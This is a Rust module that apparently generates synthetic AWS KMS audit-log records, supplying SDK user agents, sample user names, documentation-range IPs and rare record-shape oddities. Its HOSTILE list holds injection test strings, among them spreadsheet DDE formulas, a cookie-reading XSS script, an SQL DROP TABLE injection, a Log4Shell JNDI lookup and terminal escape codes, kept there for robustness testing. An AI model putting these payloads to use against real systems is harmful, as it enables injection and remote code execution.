//! What strangers choose: user agents, addresses, names of people, and strings that mean harm.
//!
//! Also the odd shapes of single records that real logs hold (facts §3.2). It refuses to plant an oddity by itself: the
//! writers ask.

use std::sync::LazyLock;

use super::dice::Dice;

/// User agents as SDKs, tools and browsers send them.
pub(super) const USER_AGENTS: &[&str] = &[
    "aws-sdk-java/2.31.40 md/io#async md/http#NettyNio ua/2.1 api/KMS#2.31.x os/Linux#6.1.141-155.222.amzn2023.x86_64 lang/java#21.0.7 md/OpenJDK_64-Bit_Server_VM#21.0.7+6-LTS md/vendor#Amazon.com_Inc. exec-env/AWS_ECS_FARGATE m/E,n",
    "Boto3/1.39.4 md/Botocore#1.39.4 ua/2.1 os/linux#6.1.140-154.222.amzn2023.aarch64 md/arch#aarch64 lang/python#3.12.11 md/pyimpl#CPython exec-env/AWS_Lambda_python3.12 m/Z,b,D cfg/retry-mode#legacy Botocore/1.39.4",
    "aws-sdk-go-v2/1.36.5 ua/2.1 os/linux lang/go#1.24.4 md/GOARCH#arm64 md/GOOS#linux api/kms#1.41.2 m/E,e",
    "aws-sdk-js/3.840.0 ua/2.1 os/linux#5.10.238-234.956.amzn2.x86_64 lang/js md/nodejs#22.17.0 api/kms#3.840.0 m/E,N",
    "aws-sdk-rust/1.3.8 ua/2.1 api/kms/1.79.0 os/linux lang/rust/1.88.0 m/E,b",
    "aws-cli/2.27.50 md/awscrt#0.26.1 ua/2.1 os/macos#24.5.0 md/arch#arm64 lang/python#3.13.4 md/pyimpl#CPython m/E,b,AA cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#kms.decrypt",
    "APN/1.0 HashiCorp/1.0 Terraform/1.12.2 (+https://www.terraform.io) terraform-provider-aws/6.2.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.36.5 ua/2.1 os/linux lang/go#1.24.4 md/GOARCH#amd64 md/GOOS#linux api/kms#1.41.2",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36",
    "aws-encryption-sdk-python/4.0.1 Boto3/1.39.4 md/Botocore#1.39.4 ua/2.1 os/linux lang/python#3.12.11",
    "aws-sdk-dotnet-coreclr/4.0.3.6 ua/2.1 os/windows#10.0.20348.0 md/ARCH#X64 lang/.NET_Core#8.0.17 md/aws-sdk-dotnet-core#4.0.0.12 api/KeyManagementService#4.0.3.6 cfg/retry-mode#standard",
];

/// People, as user and session names give them.
pub(super) const PEOPLE: &[&str] = &[
    "m.weber",
    "alice.nguyen",
    "o.petrova",
    "sam.okafor",
    "j.silva",
    "hanna.koch",
    "ravi.patel",
    "y.tanaka",
    "claire.dubois",
    "tom.baker",
    "lena.fischer",
    "d.rossi",
    "noor.hassan",
    "erik.lund",
    "p.kowalski",
    "grace.kim",
];

static HOSTILE: LazyLock<Vec<String>> = LazyLock::new(|| {
    [
        "\u{1b}[2J\u{1b}[31mALL CLEAR\u{1b}[0m",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<script>alert(document.cookie)</script>",
        "a\u{0}b\u{0}",
        "\u{202e}gnp.exe\u{202c}\u{200f}",
        "'; DROP TABLE events; --",
        "\"},{\"eventSource\":\"kms.amazonaws.com\"},{\"x\":\"",
        "line one\r\nline two\tand\u{7}a bell",
        "${jndi:ldap://203.0.113.7/a}",
        "| col | [link](javascript:alert(1)) |",
        "\\u0000\\\\\\\"",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain(["A".repeat(1024), "\u{1f510}".repeat(256)])
    .collect()
});

/// Strings that a terminal, a spreadsheet, a browser, an SQL engine or a JSON scanner might trip over; none over 1 KB.
pub(super) fn hostile_names() -> &'static [String] {
    &HOSTILE
}

/// An address: mostly inside a VPC, else from the documentation ranges; some IPv6.
pub(super) fn source_ip(dice: &mut Dice) -> String {
    let (a, b, c) = (dice.below(255), dice.below(255), 1 + dice.below(254));
    match dice.below(10) {
        0..=5 => format!("10.{a}.{b}.{c}"),
        6 => format!("198.51.100.{c}"),
        7 => format!("203.0.113.{c}"),
        8 => format!("2001:db8:{a:x}:{b:x}::{c:x}"),
        _ => format!("192.0.2.{c}"),
    }
}

/// An odd shape of one record.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Oddity {
    /// None: the shape of most records.
    Plain,
    /// eventVersion 1.02, without what came later.
    Old,
    /// No `resources`.
    NoResources,
    /// Top-level members in another order.
    Shuffled,
    /// Everything outside ASCII as `\u` escapes.
    Escaped,
}

/// The oddity of the next record: one in about 40, when wanted.
pub(super) fn next_oddity(wanted: bool, dice: &mut Dice) -> Oddity {
    if !wanted {
        return Oddity::Plain;
    }
    match dice.below(160) {
        0 => Oddity::Old,
        1 => Oddity::NoResources,
        2 => Oddity::Shuffled,
        3 => Oddity::Escaped,
        _ => Oddity::Plain,
    }
}
